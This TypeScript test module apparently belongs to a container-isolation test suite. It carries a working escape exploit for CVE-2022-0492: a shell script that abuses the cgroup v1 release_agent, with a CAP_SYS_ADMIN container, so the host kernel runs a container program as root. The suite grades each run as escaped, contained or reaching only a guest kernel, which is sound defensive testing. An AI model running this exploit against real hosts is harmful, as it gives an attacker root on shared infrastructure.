import { execFileSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { basename } from 'node:path'
import { expect } from 'vitest'
import { contained, escaped, reachedGuest, type Attack } from '../../attack.ts'
import { install } from '../../programs.ts'
import { addCapabilities } from '../../spec-changes.ts'

/**
 * A cgroup v1 hierarchy of the attacker's own names a program that the kernel runs, as root and in its first namespaces,
 * when a cgroup becomes empty. Mounted by name, because every controller is taken.
 */
const trigger = (hierarchy: string, marker: string): string => `
mkdir -p /tmp/cgroup && mount -t cgroup -o none,name=${hierarchy} own /tmp/cgroup || exit 0
# Where the kernel's first root finds this container: overlay tells, or through /proc by each pid.
upper=$(sed -n '1s/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo)
if [ -n "$upper" ]; then programs=$upper/attack/own; else programs=$(seq -f /proc/%g/root/attack/own 1 120); fi
for program in $programs; do
  echo $program >/tmp/cgroup/release_agent || exit 0
  mkdir "/tmp/cgroup/${marker}" && echo 1 >"/tmp/cgroup/${marker}/notify_on_release"
  sh -c 'echo $$ >"/tmp/cgroup/${marker}/cgroup.procs"'
  rmdir "/tmp/cgroup/${marker}"
  ! dmesg | grep -q 'owned by' || break
done
umount /tmp/cgroup
echo tried; dmesg | grep 'owned by ${marker.slice(1)}'`

export const attack: Attack = {
  id: 'CVE-2022-0492',
  title: 'cgroup v1 release_agent of a container with CAP_SYS_ADMIN',
  family: 'container',
  leak: 'root on the host',
  bound: 'guest',
  control: { weak: 'runc with CAP_SYS_ADMIN and no seccomp profile' },
  async run(site) {
    const container = await site.start({
      rootfs: (layer) => install(layer, 'own'),
    })
    const hierarchy = `kata-ts-${basename(site.directory)}`
    const { stdout, stderr } = await container.exec(['sh', '-c', trigger(hierarchy, `${site.directory}/owned`.replaceAll('/', '@'))], { process: (process) => { addCapabilities(process, 'CAP_SYS_ADMIN', 'CAP_SYSLOG') } })
    await dissolve(hierarchy)
    if (site.read('owned') === 'owned\n') return escaped('the kernel ran the container\'s program as the host\'s root: it left a file on the host')
    if (stdout.includes('owned by')) return reachedGuest(`the guest's kernel ran it (${stdout.split('\n').at(-2)}); no file on the host`)
    return contained(`${stdout}${stderr}; ${basename(site.directory)}/owned is not on the host`)
  },
}

/**
 * On a kernel that the container shared with the host: a hierarchy outlives its mount when a group of it was not quite gone by then, and every
 * process of the host is in it (runc's shim then finds no figures of its containers). Mounted once more, with no group left, it goes.
 */
async function dissolve(hierarchy: string): Promise<void> {
  await expect.poll(() => {
    const there = readFileSync('/proc/self/cgroup', 'utf8').includes(`name=${hierarchy}:`)
    if (there) execFileSync('unshare', ['--mount', 'mount', '-t', 'cgroup', '-o', `none,name=${hierarchy}`, 'own', '/mnt'])
    return there
  }, { timeout: 20_000, interval: 100 }).toBe(false)
}
